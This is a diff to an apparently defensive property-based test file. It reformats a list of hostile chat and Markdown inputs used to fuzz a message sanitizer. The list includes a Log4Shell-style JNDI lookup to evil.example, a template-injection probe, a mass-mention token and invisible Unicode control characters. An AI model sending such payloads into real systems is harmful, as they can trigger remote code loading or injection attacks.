@@ -100,8 +100,16 @@ HOSTILE = st.lists(
     st.one_of(
         st.text(max_size=40),
         st.sampled_from(
-            ["<@U024BE7LH>", "<!channel>", "@everyone", "```", "||x||", "[a](https://evil.example)", "\u202eabc", "\u200b", "| a | b |"]
-            + [
+            [
+                "<@U024BE7LH>",
+                "<!channel>",
+                "@everyone",
+                "```",
+                "||x||",
+                "[a](https://evil.example)",
+                "\u202eabc",
+                "\u200b",
+                "| a | b |",
                 "{{7*7}}",
                 "${jndi:ldap://evil.example/a}",
                 "years",
